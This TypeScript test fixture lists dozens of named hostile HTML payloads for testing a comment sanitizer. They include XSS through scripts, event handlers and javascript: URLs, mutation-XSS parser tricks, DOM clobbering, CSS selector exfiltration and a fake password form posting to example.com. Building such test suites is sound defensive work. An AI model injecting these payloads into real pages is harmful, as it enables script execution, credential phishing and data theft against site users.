/** One attack on the page around a comment. */
export interface HostileHtml {
  /** What it tries. */
  name: string;
  html: string;
}

const hacked = 'window.__hacked=1';

/**
 * Attacks that a comment may carry (CB-05). Those that run set `window.__hacked`; the others try to change something outside
 * their row. Each ends with the word 无害, which has to be there afterwards unless the attack itself swallows it.
 */
export const hostileHtml: readonly HostileHtml[] = [
  // Scripts
  { name: 'script', html: `<script>${hacked}</script>无害` },
  { name: 'script in capitals with a slash', html: `<ScRiPt/x>${hacked}</sCrIpT>无害` },
  { name: 'script from elsewhere', html: `<script src="data:text/javascript,${hacked}"></script>无害` },
  { name: 'script split by a script', html: `<scr<script>ipt>${hacked}</scr</script>ipt>无害` },
  { name: 'module script', html: `<script type="module">${hacked}</script>无害` },
  { name: 'script behind a broken comment', html: `<!--><script>${hacked}</script>-->无害` },
  {
    name: 'script in a conditional comment',
    html: `<!--[if gte IE 4]><script>${hacked}</script><![endif]-->无害`,
  },
  { name: 'script in CDATA', html: `<![CDATA[<script>${hacked}</script>]]>无害` },
  { name: 'script in a template', html: `<template><script>${hacked}</script></template>无害` },
  {
    name: 'script in a declarative shadow root',
    html: `<div><template shadowrootmode="open"><script>${hacked}</script><slot></slot></template></div>无害`,
  },
  // Handlers
  { name: 'image error', html: `<img src=x onerror="${hacked}">无害` },
  { name: 'image error without spaces', html: `<img/src="x"/onerror=${hacked}>无害` },
  { name: 'image error in backquotes', html: `<img src=\`x\` onerror=\`${hacked}\`>无害` },
  {
    name: 'image load of a picture that works',
    html: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${hacked}">无害`,
  },
  {
    name: 'handler with a line break in its name',
    html: `<img src=x on\nerror="${hacked}" onerror\n="${hacked}">无害`,
  },
  { name: 'handler behind a null byte', html: `<img src=x \u0000onerror="${hacked}">无害` },
  { name: 'focus by itself', html: `<a href="#" autofocus tabindex="1" onfocus="${hacked}">无害</a>` },
  { name: 'input focus by itself', html: `<input autofocus onfocus="${hacked}">无害` },
  { name: 'details', html: `<details open ontoggle="${hacked}"><summary>无害</summary></details>` },
  { name: 'marquee', html: `<marquee onstart="${hacked}">无害</marquee>` },
  { name: 'video source', html: `<video><source onerror="${hacked}"></video>无害` },
  { name: 'audio', html: `<audio src=x onerror="${hacked}" autoplay></audio>无害` },
  { name: 'body load', html: `<body onload="${hacked}">无害</body>` },
  { name: 'pointer over everything', html: `<div onpointerover="${hacked}" onclick="${hacked}">无害</div>` },
  { name: 'animation', html: `<p style="animation:sy-x 1ms" onanimationstart="${hacked}">无害</p>` },
  {
    name: 'popover',
    html: `<div popover id="p" onbeforetoggle="${hacked}">无害</div><button popovertarget="p">x</button>`,
  },
  {
    name: 'mention with a handler',
    html: `<span data-mention="12" onclick="${hacked}" style="position:fixed" class="x" id="root">@无害</span>`,
  },
  {
    name: 'mention of what is no person',
    html: `<span data-mention="javascript:${hacked}">@甲</span><span data-mention="1 onclick=${hacked}">@乙</span><a data-mention="12">无害</a>`,
  },
  {
    name: 'mention with a picture and a link',
    html: `<span data-mention="12">@<img src=x onerror="${hacked}"><a href="javascript:${hacked}">无害</a><span data-mention="13">@乙</span></span>`,
  },
  // Addresses that run
  { name: 'javascript address', html: `<a href="javascript:${hacked}">无害</a>` },
  {
    name: 'javascript address in entities',
    html: `<a href="&#106;&#97;&#118;&#97;&#115;cript&colon;${hacked}">无害</a>`,
  },
  { name: 'javascript address with tabs', html: `<a href=" jav&#x09;ascr&NewLine;ipt:${hacked}">无害</a>` },
  {
    name: 'javascript address behind control characters',
    html: `<a href="\u0001\u001fjavascript:${hacked}">无害</a>`,
  },
  { name: 'vbscript address', html: `<a href="vbscript:msgbox(1)">无害</a>` },
  {
    name: 'data address of a page',
    html: `<a href="data:text/html,<script>opener.__hacked=1</script>">无害</a>`,
  },
  { name: 'blob address', html: `<a href="blob:https://example.com/1">无害</a>` },
  { name: 'javascript picture', html: `<img src="javascript:${hacked}" alt="">无害` },
  {
    name: 'picture that is a drawing with a script',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hacked}'/>">无害`,
  },
  {
    name: 'xlink address',
    html: `<svg><a xlink:href="javascript:${hacked}"><text y="20">无害</text></a></svg>`,
  },
  { name: 'action of a form', html: `<form action="javascript:${hacked}"><button>无害</button></form>` },
  {
    name: 'action of a button',
    html: `<form><button formaction="javascript:${hacked}">无害</button></form>`,
  },
  {
    name: 'map',
    html: `<img usemap="#m" src="x"><map name="m"><area href="javascript:${hacked}" shape="default"></map>无害`,
  },
  // Frames and plugins
  {
    name: 'frame with a page inside',
    html: `<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>无害`,
  },
  { name: 'javascript frame', html: `<iframe src="javascript:parent.__hacked=1"></iframe>无害` },
  { name: 'object', html: `<object data="javascript:${hacked}"></object>无害` },
  { name: 'embed', html: `<embed src="data:text/html,<script>${hacked}</script>">无害` },
  {
    name: 'fenced frame and portal',
    html: `<fencedframe></fencedframe><portal src="javascript:${hacked}"></portal>无害`,
  },
  // Other languages of markup, and texts that change when they are read twice
  { name: 'drawing', html: `<svg onload="${hacked}"></svg>无害` },
  { name: 'drawing with a script', html: `<svg><script>${hacked}</script></svg>无害` },
  {
    name: 'drawing that animates an address',
    html: `<svg><a><animate attributeName="href" values="javascript:${hacked}"/><text>x</text></a></svg>无害`,
  },
  {
    name: 'drawing with foreign content',
    html: `<svg><foreignObject><img src=x onerror="${hacked}"></foreignObject></svg>无害`,
  },
  {
    name: 'drawing used from elsewhere',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${hacked}</script></svg>#x"/></svg>无害`,
  },
  {
    name: 'formula',
    html: `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${hacked}">x</maction></math>无害`,
  },
  {
    name: 'formula that changes its mind',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hacked}&gt;">无害`,
  },
  {
    name: 'form that changes its mind',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hacked}>无害`,
  },
  {
    name: 'attribute that changes its mind',
    html: `<noscript><p title="</noscript><img src=x onerror=${hacked}>">无害`,
  },
  {
    name: 'text area that changes its mind',
    html: `<textarea><p title="</textarea><img src=x onerror=${hacked}>"></textarea>无害`,
  },
  {
    name: 'title that changes its mind',
    html: `<svg></p><title><style><img src="</style><img src=x onerror=${hacked}//"></title></svg>无害`,
  },
  {
    name: 'quoted words that want to be tags',
    html: `<p title="&lt;img src=x onerror=${hacked}&gt;">&lt;img src=x onerror=${hacked}&gt;无害</p>`,
  },
  // Styles
  { name: 'style sheet', html: '<style>body,html{display:none!important}</style>无害' },
  {
    name: 'style sheet that spies',
    html: `<style>@import url("https://example.com/x.css");input[value^=a]{background:url(https://example.com/a)}</style>无害`,
  },
  { name: 'linked style sheet', html: '<link rel="stylesheet" href="data:text/css,body{display:none}">无害' },
  {
    name: 'cover over the page',
    html: '<div style="position:fixed;inset:0;z-index:9999999;background:red">无害</div>',
  },
  {
    name: 'style with a script',
    html: `<p style="width:expression(${hacked});behavior:url(x);background:url(javascript:${hacked})">无害</p>`,
  },
  {
    name: 'classes of the page',
    html: '<p class="sy-modal dialog hidden" data-part="dismiss" data-sy-theme="dark">无害</p>',
  },
  {
    name: 'old attributes of looks',
    html: '<table background="javascript:0" bgcolor="red" width="99999"><td><font size="7" color="red">无害</font></td></table>',
  },
  // The page around it
  {
    name: 'closing what it did not open',
    html: '</p></div></li></ul></section></main></body></html><h1>无害</h1>',
  },
  { name: 'opening what it does not close', html: '<div><ul><li><table><tr><td><b><i><a href="/x">无害' },
  { name: 'refresh', html: `<meta http-equiv="refresh" content="0;url=javascript:${hacked}">无害` },
  { name: 'base', html: '<base href="https://example.com/" target="_blank">无害' },
  { name: 'title of the page', html: '<title>夺走</title><head><title>夺走</title></head>无害' },
  {
    name: 'frameset',
    html: `<frameset onload="${hacked}"><frame src="javascript:${hacked}"></frameset>无害`,
  },
  { name: 'plaintext', html: `无害<plaintext><script>${hacked}</script>` },
  {
    name: 'names of the document',
    html: '<img name="getElementById"><img name="cookie"><form name="body"></form>无害',
  },
  {
    name: 'ids of the window',
    html: '<a id="__hacked">x</a><a id="root"></a><a id="storybook-root" name="config" href="cid:x"></a>无害',
  },
  {
    name: 'form that hides its own parts',
    html: `<form id="f"><input name="attributes"><input name="childNodes"><input name="parentNode"></form><img src=x onerror="${hacked}">无害`,
  },
  {
    name: 'form that asks for a password',
    html: '<form action="https://example.com/" method="post"><label>密码<input type="password" name="p"></label><button>登录</button></form>无害',
  },
  {
    name: 'a link in the same window',
    html: '<a href="https://example.com/" target="_top" ping="https://example.com/p" download>无害</a>',
  },
  { name: 'dialog', html: '<dialog open>无害</dialog>' },
  {
    name: 'editable area',
    html: '<div contenteditable autofocus accesskey="s" tabindex="1" draggable="true">无害</div>',
  },
  {
    name: 'roles and labels',
    html: '<div role="alert" aria-live="assertive" aria-label="系统通知" aria-hidden="false">无害</div>',
  },
  {
    name: 'elements of its own',
    html: `<comment-box onclick="${hacked}"><x-a is="x-b">无害</x-a></comment-box><p is="x-b">x</p><slot name="x"></slot>`,
  },
  { name: 'picture as high as a tower', html: '<img src="/x.png" width="1" height="999999999" alt="">无害' },
  { name: 'tower of accents', html: `无害${'\u0300\u0301\u0302\u0303\u0304'.repeat(40)}` },
  { name: 'words against the direction', html: '<bdo dir="rtl">\u202e无害</bdo>' },
  { name: 'depth', html: `${'<div>'.repeat(500)}无害` },
];
